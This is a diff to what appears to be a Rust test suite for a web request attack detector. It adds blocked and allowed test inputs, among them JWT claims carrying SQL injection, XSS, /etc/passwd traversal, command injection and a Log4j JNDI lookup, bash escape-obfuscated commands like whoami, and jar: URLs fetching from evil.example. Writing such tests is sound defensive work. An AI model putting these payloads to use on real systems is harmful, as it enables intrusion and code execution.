@@ -878,6 +878,24 @@ fn assert_tokens(expect: bool, tokens: &[String]) {
     assert_header("Authorization", expect, &b);
 }
 
+/// Claims of one attack each: SQL in `sub`, markup in `name`, a traversal
+/// or a command in `kid`, a Log4j lookup.
+const JWT_ATTACK_CLAIMS: &[&str] = &[
+    r#"{"sub":"' or 1=1--","iat":1516239022}"#,
+    r#"{"name":"<script>alert(1)</script>"}"#,
+    r#"{"kid":"../../../../etc/passwd"}"#,
+    r#"{"kid":"key;cat /etc/passwd"}"#,
+    r#"{"user":"${jndi:ldap://x.example/a}"}"#,
+];
+
+/// Claims of real tokens: ids, names with an apostrophe, issuers, scopes.
+const JWT_BENIGN_CLAIMS: &[&str] = &[
+    r#"{"user":"alice","role":"user","exp":1700000000}"#,
+    r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
+    r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
+    r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
+];
+
 /// Session 10: attacks inside a JSON Web Token's claims (SQL in `sub`,
 /// markup in `name`, a traversal or a command in `kid`, a Log4j lookup)
 /// were never read: a dotted token with digits was taken for a plain id
@@ -885,20 +903,7 @@ fn assert_tokens(expect: bool, tokens: &[String]) {
 /// parameter, a form, JSON, a cookie and a Bearer token. Before: score 0.
 #[test]
 fn attacks_inside_jwt_claims() {
-    let attacks = [
-        r#"{"sub":"' or 1=1--","iat":1516239022}"#,
-        r#"{"name":"<script>alert(1)</script>"}"#,
-        r#"{"kid":"../../../../etc/passwd"}"#,
-        r#"{"kid":"key;cat /etc/passwd"}"#,
-        r#"{"user":"${jndi:ldap://x.example/a}"}"#,
-    ];
-    let benign = [
-        r#"{"user":"alice","role":"user","exp":1700000000}"#,
-        r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
-        r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
-        r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
-    ];
-    for (expect, claims) in [(true, &attacks[..]), (false, &benign[..])] {
+    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
         let tokens: Vec<String> = claims.iter().map(|c| jwt(c)).collect();
         assert_tokens(expect, &tokens);
     }
@@ -1352,6 +1357,7 @@ fn ui_text_with_sql_words_in_a_parenthetical() {
             "He said 'yes' or 'no'? 'Maybe'",
             "python 'or' operator",
             "l'or ou l'argent ? 'L'or'",
+            "difference between 'and' and 'or'? 'and' binds tighter",
         ],
     );
     assert_placed(
@@ -1364,6 +1370,8 @@ fn ui_text_with_sql_words_in_a_parenthetical() {
             "x' or payload ? 'admin'--",
             "x' or payload ? 'admin",
             "' or '1",
+            "x' and 'a' or 'b'='b",
+            "' or true or '",
             ";'wh'oami",
             "'; select distinct password from users--",
         ],
@@ -1416,6 +1424,96 @@ fn template_string_building_probes() {
             "Say \"hi\".concat later",
             "{{ user.name }} ({{ user.email }})",
             "'a' + 'b' = 'ab'",
+        ],
+    );
+}
+
+/// Whether a GET of `path` is blocked.
+fn path_blocked(path: &str) -> bool {
+    common::blocked("GET", path, "", &[("Host", b"shop.example")], b"")
+}
+
+/// Session 11: a JSON Web Token in a segment of the request path (a
+/// password-reset or e-mail-verification link: `/reset/<token>`,
+/// `/verify/<token>/confirm`) was never read: the extractor builds path
+/// segments only for paths with suspicious bytes, and a token has none.
+/// The JWT readers now read the request path, each segment a candidate.
+/// Before: score 0 each.
+#[test]
+fn attacks_inside_jwt_claims_in_the_path() {
+    for (expect, claims) in [(true, JWT_ATTACK_CLAIMS), (false, JWT_BENIGN_CLAIMS)] {
+        for c in claims {
+            let t = jwt(c);
+            for path in [
+                format!("/reset/{t}"),
+                format!("/verify/{t}/confirm"),
+                format!("/api/v1/links/{t};lang=en"),
+            ] {
+                assert_eq!(path_blocked(&path), expect, "{path} ({c})");
+            }
+        }
+    }
+    // Paths holding `ey` and dots but no token pass.
+    for path in [
+        "/keys/eyeliner.v2/index.html",
+        "/money/ey.js",
+        "/static/eyJ.css",
+    ] {
+        assert!(!path_blocked(path), "{path}");
+    }
+}
+
+/// Session 11 (adversarial pass): bash's ANSI-C quoting `$'…'` decodes its
+/// escapes (`\xHH`, octal, `\u`), so a command word or a stored command can
+/// be written in escapes: `;X=$'uname\x20-a'&&$X`. The shell reader took
+/// `$'` for a `$` that starts no variable and stopped (the shell rules do
+/// not read cookies). Before: score 0.
+#[test]
+fn a_command_in_ansi_c_quoting() {
+    assert_placed(
+        true,
+        &every_place_but(Place::Cookie),
+        &[
+            ";X=$'uname\\x20-a'&&$X",
+            ";$'\\x69\\x64'",
+            "|$'\\167\\150\\157\\141\\155\\151'",
+            "a;$'\\u0069d'",
+            "x&&$'who'ami",
+        ],
+    );
+    assert_placed(
+        false,
+        EVERY_PLACE,
+        &[
+            "Costs $'5' today",
+            "He wrote $'hello\\nworld' in bash",
+            "$'\\x41BC'",
+            "a=$'x'; b=$'y'",
+        ],
+    );
+}
+
+/// Session 11 (adversarial pass): Java's `jar:` URL wraps another URL
+/// (`jar:http://host/x.jar!/entry`): a fetcher given it downloads and
+/// opens the archive. Rule 8003 listed `jar://` only. Before: score 0.
+#[test]
+fn a_jar_url_wrapping_another_url() {
+    assert_placed(
+        true,
+        &every_place_but(Place::AfterFiller),
+        &[
+            "jar:http://evil.example/x.jar!/",
+            "jar:https://evil.example/a.zip!/config.xml",
+            "jar:file:///tmp/upload.zip!/shell.jsp",
+        ],
+    );
+    assert_placed(
+        false,
+        EVERY_PLACE,
+        &[
+            "jar: glass, 500 ml",
+            "Mason jar:http links are in the notes",
+            "jar:lid",
         ],
     );
 }
